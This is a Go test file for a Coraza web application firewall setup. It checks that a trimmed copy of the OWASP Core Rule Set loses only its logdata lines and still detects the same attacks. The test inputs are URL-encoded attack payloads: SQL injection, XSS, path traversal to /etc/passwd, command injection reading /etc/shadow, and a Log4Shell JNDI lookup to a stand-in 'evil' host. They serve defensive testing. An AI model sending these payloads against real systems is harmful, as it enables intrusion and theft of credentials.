package engine

import (
	"io/fs"
	"slices"
	"strconv"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	coraza "github.com/corazawaf/coraza/v3"
)

// TestCRSLosesOnlyLogdata reads every CRS rule file through CRS: no
// logdata is left, and what is left is the module's file without exactly
// its logdata lines, so no rule lost anything else.
func TestCRSLosesOnlyLogdata(t *testing.T) {
	files, err := fs.Glob(CRS, crsRuleDir+"/*.conf")
	if err != nil || len(files) < 20 {
		t.Fatalf("CRS rule files: %v (%d files)", err, len(files))
	}
	removed := 0
	for _, name := range files {
		raw, err := fs.ReadFile(coreruleset.FS, name)
		if err != nil {
			t.Fatal(err)
		}
		lean, err := fs.ReadFile(CRS, name)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(lean), "logdata") {
			t.Errorf("%s still has logdata: a CRS update wrote it in a way withoutLogdata does not know", name)
		}
		var expected []string
		for _, l := range strings.SplitAfter(string(raw), "\n") {
			if strings.HasPrefix(strings.TrimSpace(l), "logdata:'") {
				removed++
				continue
			}
			expected = append(expected, l)
		}
		if got := string(lean); got != strings.Join(expected, "") {
			t.Errorf("%s differs from the module's file by more than its logdata lines", name)
		}
	}
	if removed < 300 {
		t.Errorf("removed %d logdata lines, want the CRS v4.25's 327", removed)
	}
	// Files outside the rule folder are the module's own.
	for _, name := range []string{"@coraza.conf-recommended", "@crs-setup.conf.example"} {
		raw, _ := fs.ReadFile(coreruleset.FS, name)
		got, err := fs.ReadFile(CRS, name)
		if err != nil || string(got) != string(raw) {
			t.Errorf("%s: read through CRS differs from the module's (err %v)", name, err)
		}
	}
}

// TestCRSMatchesTheSameRules compiles the CRS at paranoia level 2 from the
// module's files and from CRS and inspects attacks of several families:
// the same rules match with the same messages; only the logdata is gone.
func TestCRSMatchesTheSameRules(t *testing.T) {
	const directives = "Include @coraza.conf-recommended\nSecRuleEngine DetectionOnly\nSecRequestBodyAccess On\n" +
		"Include @crs-setup.conf.example\n" +
		`SecAction "id:900000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=2"` + "\n" +
		"Include @owasp_crs/*.conf\n"
	compile := func(root fs.FS) coraza.WAF {
		waf, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(root).WithDirectives(directives))
		if err != nil {
			t.Fatal(err)
		}
		return waf
	}
	stock, lean := compile(coreruleset.FS), compile(CRS)
	for _, uri := range []string{
		"/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
		"/?q=%3Cscript%3Ealert(1)%3C/script%3E",
		"/?file=../../../../etc/passwd",
		"/?cmd=;cat%20/etc/shadow",
		"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
	} {
		want, wantData := findings(stock, uri)
		got, gotData := findings(lean, uri)
		if len(want) < 2 || !slices.Equal(got, want) {
			t.Errorf("%s: rules with CRS %v, with the module's files %v", uri, got, want)
		}
		if wantData == 0 || gotData != 0 {
			t.Errorf("%s: %d matched rules with logdata from the module's files (want some), %d with CRS (want none)", uri, wantData, gotData)
		}
	}
}

// findings inspects a GET of uri and lists "id msg" of the rules that
// matched with a message, and how many carried logdata.
func findings(waf coraza.WAF, uri string) (rules []string, withData int) {
	tx := waf.NewTransaction()
	defer tx.Close()
	tx.ProcessURI(uri, "GET", "HTTP/1.1")
	tx.AddRequestHeader("Host", "shop.example.com")
	tx.AddRequestHeader("User-Agent", "Mozilla/5.0")
	tx.AddRequestHeader("Accept", "*/*")
	tx.ProcessRequestHeaders()
	_, _ = tx.ProcessRequestBody()
	tx.ProcessLogging()
	for _, mr := range tx.MatchedRules() {
		if mr.Message() == "" {
			continue
		}
		rules = append(rules, strconv.Itoa(mr.Rule().ID())+" "+mr.Message())
		if mr.Data() != "" {
			withData++
		}
	}
	return rules, withData
}
